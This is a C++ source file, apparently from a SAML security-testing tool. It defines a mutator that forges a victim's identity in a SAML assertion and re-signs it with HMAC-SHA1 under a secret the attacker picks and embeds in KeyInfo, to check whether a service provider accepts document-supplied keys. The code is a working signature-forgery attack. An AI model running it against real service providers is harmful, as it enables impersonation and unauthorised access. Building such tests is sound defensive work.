// SPDX-License-Identifier: Apache-2.0
// signing.hmac_key_embedded — a keyless attacker forges the victim's identity and "signs" it with
// HMAC-SHA1 under a secret of its own choosing, shipped in KeyInfo as xmlsec's HMACKeyValue
// (attack-catalogue KEY-HMAC-KEYVALUE): xmlsec loads such a key from the document unless key data
// from KeyInfo is disabled. xmldsig-core §6.3.1 defines HMAC for shared secrets only; an IdP's
// signature is asymmetric, so the SP must refuse the algorithm (or the key) before any crypto.
// Params: `signature` (assertion | response; default the first one present), `victim`.
#include "mutators/keys/dsig_math.hpp"
#include "mutators/keys/keys.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/codec.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;
constexpr std::string_view k_ns_xmlsec = "http://www.aleksey.com/xmlsec/2002";

}  // namespace

core::Result<void> signing_hmac_key_embedded(Target& target) {
  auto which = string_param(target, "signature");
  auto victim = string_param(target, "victim");
  if (!which || !victim) {
    return core::fail(!which ? which.error() : victim.error());
  }
  xmlNode* response = target.doc->root();
  xmlNode* assertion = core::child_named(response, n::ns_assertion, "Assertion");
  xmlNode* assertion_signature = dsig::dsig_child(assertion, "Signature");
  xmlNode* response_signature = dsig::dsig_child(response, "Signature");
  std::string wanted = which->value_or(assertion_signature != nullptr ? "assertion" : "response");
  if (wanted != "assertion" && wanted != "response") {
    return core::fail(core::Reason::mutator_params_invalid, "/signature: expected assertion or response");
  }
  xmlNode* signature = wanted == "assertion" ? assertion_signature : response_signature;
  if (signature == nullptr || assertion == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "no " + wanted + " Signature to replace");
  }
  keys::write_victim(assertion, victim->value_or(std::string(keys::k_default_victim)));
  if (auto digest = dsig::redigest_enveloped(signature); !digest) {
    return digest;
  }
  xmlNode* signed_info = dsig::dsig_child(signature, "SignedInfo");
  core::set_attribute(dsig::dsig_child(signed_info, "SignatureMethod"), "Algorithm", dsig::k_hmac_sha1);
  std::string secret = core::random_bytes(20);
  auto canonical = dsig::exc_c14n(signed_info);
  if (!canonical) {
    return core::fail(canonical.error());
  }
  core::set_text(dsig::dsig_child(signature, "SignatureValue"), dsig::hmac_sha1_base64(secret, *canonical));
  if (xmlNode* old = dsig::dsig_child(signature, "KeyInfo")) {
    core::remove_node(old);
  }
  std::string prefix = signature->ns != nullptr && signature->ns->prefix != nullptr
                           ? reinterpret_cast<const char*>(signature->ns->prefix)
                           : "";
  xmlNode* key_info = core::append_element(signature, n::ns_dsig, prefix, "KeyInfo");
  xmlNode* key_value = core::append_element(key_info, n::ns_dsig, prefix, "KeyValue");
  core::append_element(key_value, k_ns_xmlsec, "", "HMACKeyValue", core::base64_encode(secret));
  return {};
}

}  // namespace samlt::idp::mutators
